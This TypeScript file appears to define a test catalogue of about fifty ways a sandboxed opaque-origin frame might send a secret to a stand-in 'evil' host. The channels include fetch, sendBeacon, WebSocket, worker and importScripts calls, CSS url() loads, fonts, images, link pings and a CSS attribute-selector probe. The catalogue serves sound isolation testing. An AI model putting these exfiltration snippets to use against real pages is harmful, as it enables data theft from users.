/** Attacks that ask for something from elsewhere: what was asked for carries the secret. */
import { type Attack, made, worker } from './frame-attack.ts';

export const LOADS: readonly Attack[] = [
  { name: 'fetch', code: "window.fetch(evil + '/x', {mode: 'no-cors'})" },
  {
    name: 'fetch with a body',
    code: "window.fetch(evil, {mode: 'no-cors', method: 'POST', body: 's', keepalive: true})",
  },
  { name: 'XMLHttpRequest', code: "const x = new window.XMLHttpRequest(); x.open('GET', evil); x.send()" },
  { name: 'sendBeacon', code: "navigator.sendBeacon(evil, 'secret')" },
  { name: 'WebSocket', code: "new window.WebSocket(evil.replace('http', 'ws'))" },
  { name: 'EventSource', code: 'new window.EventSource(evil)' },
  {
    name: 'WebTransport',
    code: "new window.WebTransport('https://127.0.0.1:' + udp + '/x').ready.catch(() => 0)",
  },
  // None came out of a worker of an opaque origin, with or without policy.
  {
    name: 'WebTransport in a worker',
    code: worker("new WebTransport('https://127.0.0.1:' + udp + '/x')"),
    always: true,
  },
  { name: 'fetch in a worker', code: worker("fetch(evil, {mode: 'no-cors'})") },
  { name: 'importScripts in a worker', code: worker("importScripts(evil + '/x')") },
  { name: 'XMLHttpRequest in a worker', code: worker("const x = new XMLHttpRequest(); x.open('GET', evil); x.send()") },
  { name: 'WebSocket in a worker', code: worker("new WebSocket(evil.replace('http', 'ws'))") },
  { name: 'EventSource in a worker', code: worker('new EventSource(evil)') },
  { name: 'worker in a worker', code: worker(`new Worker(URL.createObjectURL(new Blob(["fetch('" + evil + "')"])))`) },
  // An opaque origin has no shared workers.
  { name: 'fetch in a shared worker', code: worker("fetch(evil, {mode: 'no-cors'})", 'SharedWorker'), always: true },
  // A worker's script must be of the frame's own origin, which is opaque: never.
  { name: 'worker of theirs', code: "new window.Worker(evil + '/x.js')", always: true },
  { name: 'shared worker of theirs', code: "new window.SharedWorker(evil + '/x.js')", always: true },
  // Opaque origins have no service workers.
  { name: 'service worker', code: "await navigator.serviceWorker.register(evil + '/x.js')", always: true },
  { name: 'paint worklet', code: "window.CSS.paintWorklet.addModule(evil + '/x.js')" },
  { name: 'audio worklet', code: "new window.AudioContext().audioWorklet.addModule(evil + '/x.js')" },
  { name: 'script', code: made('script', "e.src = evil + '/x'") },
  { name: 'module', code: made('script', "e.type = 'module'; e.src = evil + '/x'") },
  { name: 'script in SVG', code: svgPart('script') },
  { name: 'dynamic import', code: made('script', `e.type = 'module'; e.text = "import('" + evil + "/x.js')"`) },
  {
    name: 'speculation rules',
    code: made(
      'script',
      "e.type = 'speculationrules'; e.text = JSON.stringify({prefetch: [{source: 'list', urls: [evil + '/x']}], prerender: [{source: 'list', urls: [evil + '/y']}]})",
    ),
    // Chromium speculates in top-level documents only.
    always: true,
  },
  { name: 'image', code: made('img', "e.src = evil + '/x'") },
  { name: 'image of a set', code: made('img', "e.srcset = evil + '/x 1x'") },
  { name: 'Image()', code: "new window.Image().src = evil + '/x'" },
  { name: 'image button', code: made('input', "e.type = 'image'; e.src = evil + '/x'") },
  { name: 'background of the body', code: "document.body.setAttribute('background', evil + '/x')" },
  { name: 'picture in SVG', code: svgPart('image') },
  { name: 'use in SVG', code: svgPart('use', '/x#y'), always: true }, // of another origin never
  {
    name: 'filter in SVG',
    code: "document.body.append(svg`<svg><filter id=f><feImage href=${evil + '/x'} /></filter><rect width=9 height=9 filter='url(#f)' /></svg>`)",
  },
  { name: 'video', code: made('video', "e.src = evil + '/x'; e.load()") },
  { name: 'poster', code: made('video', "e.poster = evil + '/x'") },
  { name: 'audio', code: made('audio', "e.src = evil + '/x'; e.load()") },
  {
    name: 'subtitles',
    code: made(
      'video',
      "e.crossOrigin = 'anonymous'; const t = document.createElement('track'); t.src = evil + '/x'; t.default = true; e.append(t); t.track.mode = 'showing'",
    ),
  },
  { name: 'CSS import', code: made('style', "e.textContent = '@import url(' + evil + '/x)'") },
  { name: 'CSS background', code: made('style', "e.textContent = 'body { background: url(' + evil + '/x) }'") },
  {
    name: 'CSS of an attribute',
    code: "document.body.style.cursor = 'url(' + evil + '/x), auto'; document.body.style.background = 'image-set(url(' + evil + '/y) 1x)'",
  },
  { name: 'CSS mask', code: "document.body.style.mask = 'url(' + evil + '/x#m)'" },
  {
    name: 'CSS of an adopted sheet',
    code: "const sheet = new window.CSSStyleSheet(); sheet.replaceSync('body { background: url(' + evil + '/x) }'); document.adoptedStyleSheets = [sheet]",
  },
  {
    name: 'CSS attribute probe',
    code: `document.body.append(Object.assign(document.createElement('b'), {title: 's3cret', textContent: 'b'})); ${made('style', "e.textContent = 'b[title^=s] { background: url(' + evil + '/s) }'")}`,
  },
  {
    name: 'font',
    code: made(
      'style',
      "e.textContent = '@font-face { font-family: q; src: url(' + evil + '/x) } * { font-family: q !important }'; document.body.append('q')",
    ),
  },
  { name: 'FontFace', code: "new window.FontFace('q', 'url(' + evil + '/x)').load()" },
  {
    name: 'style sheet of an instruction',
    code: `document.insertBefore(document.createProcessingInstruction('xml-stylesheet', 'type="text/css" href="' + evil + '/x"'), document.documentElement)`,
    // Only documents that are XML heed it.
    always: true,
  },
  { name: 'ping of a link', code: made('a', "e.href = '#'; e.ping = evil + '/x'; e.click()") },
  { name: 'attribution', code: made('img', "e.attributionSrc = evil + '/x'"), always: true }, // gone from Chromium
  {
    name: 'federated sign-in',
    code: "navigator.credentials.get({identity: {providers: [{configURL: evil + '/x', clientId: 'x'}]}}).catch(() => 0)",
    // A document of an opaque origin may not ask.
    always: true,
  },
  {
    name: 'payment',
    code: "new window.PaymentRequest([{supportedMethods: evil + '/x'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).show()",
    always: true,
  }, // needs a person's click
];

function svgPart(tag: string, path = '/x'): string {
  return `const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), e = document.createElementNS('http://www.w3.org/2000/svg', '${tag}'); e.setAttribute('href', evil + '${path}'); g.append(e); document.body.append(g)`;
}
